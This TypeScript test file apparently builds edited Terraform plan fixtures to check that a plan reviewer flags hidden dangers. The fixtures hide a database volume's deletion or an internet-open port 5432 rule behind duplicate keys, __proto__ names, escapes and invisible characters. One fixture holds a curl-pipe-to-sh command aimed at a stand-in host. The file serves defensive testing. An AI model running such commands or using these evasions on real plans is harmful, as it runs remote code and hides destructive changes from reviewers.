import { drop, type Block, type StackConfig } from "../../scenario";
import { changeOf, edited, port, replaced, rule, scenariosOf, unprotect } from "../scenario";

const { forbidden, person } = scenariosOf("formats");
const VOLUME = "openstack_blockstorage_volume_v3";
const DB = `${VOLUME}.revidr-database-db`;
const LOST = "Production's data is lost.";
const OPEN = "An internal port is reachable from the internet.";
const OPENED = "openstack_networking_secgroup_rule_v2.opened";

/** The plan destroys the database's volume. */
function destroys(config: StackConfig): void {
  unprotect(config, VOLUME, "revidr-database-db");
  drop(config, VOLUME, "revidr-database-db");
  drop(config, "openstack_compute_volume_attach_v2", "revidr-database-db");
}

/** The plan opens the database to the internet. */
const opens = (config: StackConfig): void => rule(config, "opened", port(5432, "0.0.0.0/0"));
const DESTROYS = { file: "destroys", config: destroys };
const OPENS = { file: "opens", config: opens };
const UNCHANGED = { file: "unchanged" };
const withChanges = (change: (plan: Block) => void) => ({ ...DESTROYS, editPlan: edited(change) });
const withRule = (change: (rule: Block, plan: Block) => void) => ({
  ...OPENS,
  editPlan: edited((plan) => change(changeOf(plan, OPENED), plan)),
});

/** Plans whose text no engine of today writes, or whose text says two things: all are made by editing a real plan. */
export const FORMATS = [
  forbidden(
    "format-action-invocations",
    "revidr",
    "an action of newer engines is invoked, and nothing else changes",
    "A command runs on the operator's machine.",
    {
      ...UNCHANGED,
      editPlan: edited((plan) => {
        plan["action_invocations"] = [
          {
            address: "action.local_command.notify",
            type: "local_command",
            name: "notify",
            provider_name: "registry.terraform.io/hashicorp/local",
            config_values: { command: "sh", arguments: ["-c", "curl -s https://collector.example/x | sh"] },
            invoke_action_trigger: {},
          },
        ];
      }),
    },
  ),
  forbidden(
    "format-actions-in-configuration",
    "revidr",
    "an action that runs after the proxy's next change",
    "A command waits to run on the operator's machine.",
    {
      ...UNCHANGED,
      editPlan: edited((plan) => {
        plan["configuration"].root_module.actions = [
          {
            address: "action.local_command.notify",
            type: "local_command",
            name: "notify",
            provider_config_key: "local",
            expressions: { command: { constant_value: "sh" } },
          },
        ];
      }),
    },
  ),
  person(
    "format-deferred-changes",
    "revidr",
    "the deletion of a volume is deferred to the next run",
    "The plan is not all that will be done.",
    {
      ...UNCHANGED,
      editPlan: edited((plan) => {
        const kept = changeOf(plan, DB);
        plan["deferred_changes"] = [
          {
            reason: "instance_count_unknown",
            resource_change: { ...kept, change: { ...kept["change"], actions: ["delete"], after: null } },
          },
        ];
        plan["complete"] = false;
      }),
    },
  ),
  person(
    "format-incomplete",
    "revidr",
    "a plan that says that it is not complete",
    "The plan is not all that will be done.",
    { ...UNCHANGED, editPlan: edited((plan) => void (plan["complete"] = false)) },
  ),
  person(
    "format-check-failed",
    "revidr",
    "a check of the stack has failed",
    "Something is not as its author expects.",
    {
      ...UNCHANGED,
      editPlan: edited(
        (plan) =>
          void (plan["checks"] = [
            {
              address: { kind: "check", name: "reachable", to_display: "check.reachable" },
              status: "fail",
              instances: [
                {
                  address: { to_display: "check.reachable" },
                  status: "fail",
                  problems: [{ message: "production does not answer" }],
                },
              ],
            },
          ]),
      ),
    },
  ),
  person(
    "format-errored",
    "revidr",
    "a plan that failed half-way",
    "The plan is not all that will be done.",
    { ...UNCHANGED, editPlan: edited((plan) => Object.assign(plan, { errored: true, applyable: false })) },
  ),
  forbidden(
    "format-actions-twice",
    "revidr",
    "a deletion whose actions stand there twice, the second time harmless",
    LOST,
    {
      ...DESTROYS,
      editPlan: replaced(['"actions":["delete"]', '"actions":["delete"],"actions":["no-op"]']),
    },
  ),
  forbidden(
    "format-changes-twice",
    "revidr",
    "resource_changes stands there twice, the second time empty",
    LOST,
    {
      ...DESTROYS,
      editPlan: (text) => `${text.slice(0, text.lastIndexOf("}"))},"resource_changes":[]}`,
    },
  ),
  forbidden("format-after-twice", "revidr", "a rule whose prefix stands there twice", OPEN, {
    ...OPENS,
    editPlan: replaced([
      '"port_range_max":5432,',
      '"port_range_max":5432,"remote_ip_prefix":"192.168.214.0/24",',
    ]),
  }),
  forbidden(
    "format-no-changes",
    "revidr",
    "a plan without resource_changes",
    LOST,
    withChanges((plan) => void delete plan["resource_changes"]),
  ),
  forbidden(
    "format-empty-changes",
    "revidr",
    "resource_changes is empty, the planned values lack a volume",
    LOST,
    withChanges((plan) => void (plan["resource_changes"] = [])),
  ),
  forbidden(
    "format-null-changes",
    "revidr",
    "resource_changes is null",
    LOST,
    withChanges((plan) => void (plan["resource_changes"] = null)),
  ),
  forbidden(
    "format-change-left-out",
    "revidr",
    "the one deletion is left out of resource_changes",
    LOST,
    withChanges((plan) => {
      plan["resource_changes"] = (plan["resource_changes"] as Block[]).filter((one) => one["address"] !== DB);
    }),
  ),
  forbidden("format-create-left-out", "revidr", "the open rule is in the planned values alone", OPEN, {
    ...OPENS,
    editPlan: edited((plan) => {
      plan["resource_changes"] = (plan["resource_changes"] as Block[]).filter(
        (one) => one["address"] !== OPENED,
      );
    }),
  }),
  forbidden("format-proto-name", "revidr", "the open rule is called __proto__", OPEN, {
    ...OPENS,
    editPlan: replaced(
      [OPENED, "openstack_networking_secgroup_rule_v2.__proto__"],
      ['"name":"opened"', '"name":"__proto__"'],
    ),
  }),
  forbidden(
    "format-constructor-key",
    "revidr",
    "the open rule has the key constructor",
    OPEN,
    withRule((one) => Object.assign(one, { address: `${OPENED}["constructor"]`, index: "constructor" })),
  ),
  person("format-proto-type", "revidr", "an object of the type __proto__", "Nobody knows what it is.", {
    ...OPENS,
    editPlan: edited((plan) =>
      Object.assign(changeOf(plan, OPENED), { type: "__proto__", address: "__proto__.opened" }),
    ),
  }),
  person(
    "format-tostring-type",
    "revidr",
    "an object of the type toString",
    "Nobody knows what it is.",
    withRule((one) => Object.assign(one, { type: "toString", address: "toString.opened" })),
  ),
  forbidden("format-proto-values", "revidr", "a rule whose values stand under __proto__", OPEN, {
    ...OPENS,
    editPlan: (text) => {
      const made = text.replace(
        /"after":(\{[^{}]*"port_range_max":5432[^{}]*\})/,
        '"after":{"__proto__":$1}',
      );
      if (made === text) throw new Error("the plan has no open rule");
      return made;
    },
  }),
  person(
    "format-action-unknown",
    "revidr",
    "an action that is not known",
    "Nobody knows what it does.",
    withChanges((plan) => void (changeOf(plan, DB)["change"].actions = ["archive"])),
  ),
  forbidden(
    "format-actions-empty",
    "revidr",
    "no action, and nothing afterwards",
    LOST,
    withChanges((plan) => void (changeOf(plan, DB)["change"].actions = [])),
  ),
  forbidden(
    "format-no-op-that-deletes",
    "revidr",
    "an object that stays, and is nothing afterwards",
    LOST,
    withChanges((plan) => void (changeOf(plan, DB)["change"].actions = ["no-op"])),
  ),
  forbidden("format-no-op-that-changes", "revidr", "a rule that stays, and is another afterwards", OPEN, {
    ...UNCHANGED,
    editPlan: edited((plan) => {
      const { change } = changeOf(
        plan,
        "openstack_networking_secgroup_rule_v2.revidr-internal_ingress_any_self",
      );
      change.after = { ...change.after, remote_group_id: "", remote_ip_prefix: "0.0.0.0/0" };
    }),
  }),
  forbidden(
    "format-action-text",
    "revidr",
    "the action is a text and no list",
    LOST,
    withChanges((plan) => void (changeOf(plan, DB)["change"].actions = "delete")),
  ),
  forbidden(
    "format-before-null",
    "revidr",
    "a deletion of what is said not to have been there",
    LOST,
    withChanges((plan) => void (changeOf(plan, DB)["change"].before = null)),
  ),
  forbidden(
    "format-type-other-case",
    "revidr",
    "a deletion of a type in other letters",
    LOST,
    withChanges((plan) => void (changeOf(plan, DB)["type"] = "openstack_blockstorage_Volume_v3")),
  ),
  forbidden(
    "format-type-and-address",
    "revidr",
    "a volume's deletion that says it is of a rule",
    LOST,
    withChanges((plan) => void (changeOf(plan, DB)["type"] = "openstack_networking_secgroup_rule_v2")),
  ),
  forbidden(
    "format-mode-data",
    "revidr",
    "a volume's deletion that says it is a data source",
    LOST,
    withChanges((plan) => void (changeOf(plan, DB)["mode"] = "data")),
  ),
  person(
    "format-mode-unknown",
    "revidr",
    "an object of a mode that is not known",
    "Nobody knows what is done.",
    withChanges((plan) => void (changeOf(plan, DB)["mode"] = "list")),
  ),
  forbidden("format-escaped-key", "revidr", "a deletion whose keys are written with escapes", LOST, {
    ...DESTROYS,
    editPlan: replaced(['"actions":["delete"]', '"\\u0061ctions":["\\u0064elete"]']),
  }),
  forbidden(
    "format-masked-prefix",
    "revidr",
    "the open rule's prefix is marked sensitive",
    OPEN,
    withRule((one) => void (one["change"].after_sensitive = { remote_ip_prefix: true })),
  ),
  forbidden(
    "format-masked-whole",
    "revidr",
    "the open rule is marked sensitive as a whole",
    OPEN,
    withRule((one) => void (one["change"].after_sensitive = true)),
  ),
  forbidden(
    "format-ports-as-text",
    "revidr",
    "the open rule's ports are texts",
    OPEN,
    withRule((one) => Object.assign(one["change"].after, { port_range_min: "5432", port_range_max: "5432" })),
  ),
  forbidden(
    "format-all-unknown",
    "revidr",
    "all of the open rule is known after apply",
    OPEN,
    withRule((one) => Object.assign(one["change"], { after: {}, after_unknown: true })),
  ),
  person("format-two-documents", "revidr", "two plans in one text, the first harmless", "It is no plan.", {
    ...UNCHANGED,
    editPlan: (text) => `${text}\n${text}`,
  }),
  person("format-version-2", "revidr", "a format of the future", "It may mean something else.", {
    ...UNCHANGED,
    editPlan: edited((plan) => void (plan["format_version"] = "2.0")),
  }),
  person("format-no-version", "revidr", "a plan without a format version", "It is no plan.", {
    ...UNCHANGED,
    editPlan: edited((plan) => void delete plan["format_version"]),
  }),
  person(
    "format-no-configuration",
    "revidr",
    "another server, and no configuration to see its provisioners in",
    "What else it does can't be seen.",
    {
      config: (config) =>
        rule(config, "web", {
          ...port(443, "0.0.0.0/0"),
          security_group_id: "${openstack_networking_secgroup_v2.revidr-web-external.id}",
          description: "again",
        }),
      editPlan: edited((plan) => void delete plan["configuration"]),
    },
  ),
  person(
    "format-import-unknown",
    "revidr",
    "an object is taken over whose id is known later",
    "It may be anything.",
    withRule((one) =>
      Object.assign(one["change"], {
        importing: { unknown: true },
        actions: ["no-op"],
        before: one["change"].after,
      }),
    ),
  ),
  person(
    "format-address-twice",
    "revidr",
    "the proxy's server stands there twice, the second time it is replaced",
    "Production's proxy is made anew.",
    {
      ...UNCHANGED,
      editPlan: edited((plan) => {
        const kept = changeOf(plan, "openstack_compute_instance_v2.revidr-proxy");
        plan["resource_changes"].push({
          ...kept,
          change: { ...kept["change"], actions: ["delete", "create"] },
        });
      }),
    },
  ),
  forbidden(
    "format-hidden-letters",
    "revidr",
    "a deletion of a type with an invisible letter",
    LOST,
    withChanges((plan) => {
      const one = changeOf(plan, DB);
      Object.assign(one, { type: `${VOLUME}\u200b`, address: `${VOLUME}\u200b.revidr-database-db` });
    }),
  ),
];
